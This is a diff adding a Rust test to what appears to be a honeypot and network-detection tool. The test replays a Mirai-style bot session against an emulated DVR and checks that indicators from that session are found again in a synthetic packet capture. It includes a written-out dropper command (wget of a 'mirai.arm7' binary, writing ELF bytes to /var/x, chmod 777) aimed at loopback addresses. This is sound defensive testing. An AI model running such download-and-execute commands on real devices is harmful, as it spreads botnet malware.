@@ -272,3 +272,97 @@ fn alerts_are_stored_beside_a_running_sensor() {
         ]
     );
 }
+
+/// `watch` matches what the trap in its data dir learned: a bot on the trap asked
+/// for a URL and dropped a file; in a capture, a device fetches that same file from
+/// that host, and the bot's address shows up too.
+#[test]
+fn what_the_trap_learned_is_found_in_a_capture() {
+    let sensor = util::Sensor::start("xiongmai-dvr");
+    let mut client = sensor.connect_from("127.1.0.50".parse().unwrap());
+    client.login();
+    client.send(
+        b"wget http://127.0.0.1:80/bins/mirai.arm7; echo -ne '\\x7f\\x45\\x4c\\x46\\x01\\x01' > /var/x; chmod 777 /var/x\r\n",
+    );
+    client.send(b"exit\r\n");
+    client.read_to_close(std::time::Duration::from_secs(10));
+    sensor.wait_for_events("the session closed", |e| {
+        e.iter().any(|v| v["eventid"] == "cowrie.session.closed")
+    });
+    let (data, _) = sensor.stop();
+    let sample = b"\x7fELF\x01\x01";
+
+    let mut cap = Capture::default();
+    let t = 1_790_000_000.0;
+    let mut response = b"HTTP/1.1 200 OK\r\nContent-Length: 6\r\n\r\n".to_vec();
+    response.extend_from_slice(sample);
+    busybait_pcapgen::tcp_session(
+        &mut cap,
+        ("10.0.0.7".parse().unwrap(), 40_000),
+        ("127.0.0.1".parse().unwrap(), 80),
+        &[
+            (
+                true,
+                b"GET /bins/mirai.arm7 HTTP/1.1\r\nHost: 127.0.0.1\r\n\r\n",
+            ),
+            (false, &response),
+        ],
+        t,
+    );
+    // The near miss: another file from another host.
+    busybait_pcapgen::tcp_session(
+        &mut cap,
+        ("10.0.0.8".parse().unwrap(), 40_001),
+        ("203.0.113.80".parse().unwrap(), 80),
+        &[
+            (true, b"GET /x HTTP/1.1\r\nHost: a\r\n\r\n"),
+            (
+                false,
+                b"HTTP/1.1 200 OK\r\nContent-Length: 6\r\n\r\n\x7fELF\x01\x02",
+            ),
+        ],
+        t + 1.0,
+    );
+    // The bot's address, seen scanning.
+    cap.frame(
+        t + 2.0,
+        &busybait_pcapgen::mirai_syn(
+            "127.1.0.50".parse().unwrap(),
+            "10.0.0.9".parse().unwrap(),
+            23,
+            false,
+        ),
+    );
+    let file = data.path().join("capture.pcap");
+    std::fs::write(&file, cap.bytes()).unwrap();
+    let (ok, json, stderr) = watch(&[
+        "--pcap".as_ref(),
+        file.as_os_str(),
+        "--data-dir".as_ref(),
+        data.path().as_os_str(),
+    ]);
+    assert!(ok, "{stderr}");
+    // Three indicators from the session: its address, its URL, the file's hash.
+    assert!(
+        stderr.contains("matching what the trap learned indicators=3"),
+        "{stderr}"
+    );
+    let found: Vec<(String, String)> = alerts(&json[0]);
+    assert_eq!(
+        found,
+        [
+            ("trap-download-host".to_string(), "10.0.0.7".to_string()),
+            ("trap-sample-download".to_string(), "10.0.0.7".to_string()),
+            ("trap-attacker".to_string(), "127.1.0.50".to_string()),
+        ]
+    );
+    let sample_alert = &json[0]["alerts"][1];
+    assert_eq!(
+        sample_alert["evidence"][0]["matched"],
+        format!("sha256 {} (6 bytes)", util::sha256_hex(sample))
+    );
+    assert_eq!(
+        json[0]["alerts"][0]["evidence"][0]["matched"],
+        "SYN to 80 (trap: http://127.0.0.1:80/bins/mirai.arm7)"
+    );
+}
